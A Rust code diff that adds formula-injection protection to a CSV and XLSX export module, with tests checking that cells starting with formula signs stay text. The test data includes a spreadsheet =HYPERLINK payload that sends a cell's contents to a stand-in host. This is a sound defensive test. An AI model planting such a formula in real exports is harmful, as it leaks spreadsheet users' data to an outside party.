@@ -112,13 +112,27 @@ pub fn xlsx(lang: Lang, sheet_name: &str, rows: &[ExportRow]) -> Result<Vec<u8>,
     book.save_to_buffer()
 }
 
+/// A cell a spreadsheet would read as a formula (or as one after a tab or line break), made text
+/// as OWASP advises for CSV: a leading single quote, and the field quoted. The full-width signs
+/// are there because some spreadsheets fold them into their ASCII forms.
+pub fn inert(cell: &str) -> String {
+    const FORMULA: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
+    if cell.starts_with(FORMULA) {
+        format!("'{cell}")
+    } else {
+        cell.to_string()
+    }
+}
+
 pub fn csv(lang: Lang, rows: &[ExportRow]) -> Result<Vec<u8>, csv::Error> {
     let mut out = "\u{FEFF}".as_bytes().to_vec();
     {
-        let mut w = csv::Writer::from_writer(&mut out);
-        w.write_record(headers(lang))?;
+        let mut w = csv::WriterBuilder::new()
+            .quote_style(csv::QuoteStyle::Always)
+            .from_writer(&mut out);
+        w.write_record(headers(lang).map(inert))?;
         for r in rows {
-            w.write_record(cells(lang, r))?;
+            w.write_record(cells(lang, r).iter().map(|c| inert(c)))?;
         }
         w.flush()?;
     }
@@ -153,4 +167,88 @@ pub async fn download(
         r.headers_mut().insert(header::CONTENT_DISPOSITION, v);
     }
     Ok(r)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn row(title: &str, problem: &str) -> ExportRow {
+        ExportRow {
+            tracking_code: "HMZ-1".into(),
+            title: title.into(),
+            axis: "@axis".into(),
+            status: "submitted".into(),
+            channel: "web".into(),
+            author: Some("+98 912".into()),
+            unit: Some("\tunit".into()),
+            province_code: None,
+            created_at: 1_700_000_000,
+            version: 1,
+            problem: problem.into(),
+            solution: "\r=1+1".into(),
+            benefits: "－1".into(),
+            resources: String::new(),
+        }
+    }
+
+    const HYPERLINK: &str = r#"=HYPERLINK("http://example.invalid/?d="&A1,"more")"#;
+
+    #[test]
+    fn csv_cells_that_look_like_formulas_are_made_text() {
+        let out = csv(Lang::En, &[row(HYPERLINK, "-2+3")]).unwrap();
+        let text = String::from_utf8(out).unwrap();
+        let line = text.lines().nth(1).unwrap();
+        assert!(
+            line.contains(r#""'=HYPERLINK(""http://example.invalid/?d=""&A1,""more"")""#),
+            "{line}"
+        );
+        for cell in [
+            r#""'@axis""#,
+            r#""'+98 912""#,
+            "\"'\tunit\"",
+            r#""'-2+3""#,
+            "\"'－1\"",
+        ] {
+            assert!(line.contains(cell), "{cell} in {line}");
+        }
+        assert!(text.contains("\"'\r=1+1\""));
+        // Read back as a spreadsheet would: no field starts with a formula sign.
+        let mut r = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(text.trim_start_matches('\u{FEFF}').as_bytes());
+        for rec in r.records() {
+            for f in rec.unwrap().iter() {
+                assert!(!f.starts_with(['=', '+', '-', '@', '\t', '\r']), "{f:?}");
+            }
+        }
+        assert_eq!(inert("ایده - دوم"), "ایده - دوم");
+    }
+
+    #[test]
+    fn xlsx_cells_stay_text_even_when_they_look_like_formulas() {
+        let out = xlsx(Lang::Fa, "=SUM(A1)", &[row(HYPERLINK, "=1+1")]).unwrap();
+        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(out)).unwrap();
+        let mut sheet = String::new();
+        std::io::Read::read_to_string(
+            &mut zip.by_name("xl/worksheets/sheet1.xml").unwrap(),
+            &mut sheet,
+        )
+        .unwrap();
+        assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{sheet}");
+        // Every cell with a value is a shared string (t="s"), none a number, boolean or formula
+        // result; empty text is a blank cell.
+        let cells = sheet.matches("<v>").count();
+        assert_eq!(cells, sheet.matches(" t=\"s\"").count(), "{sheet}");
+        let mut strings = String::new();
+        std::io::Read::read_to_string(
+            &mut zip.by_name("xl/sharedStrings.xml").unwrap(),
+            &mut strings,
+        )
+        .unwrap();
+        assert!(
+            strings.contains(r#"=HYPERLINK("http://example.invalid/?d="&amp;A1"#),
+            "{strings}"
+        );
+    }
 }
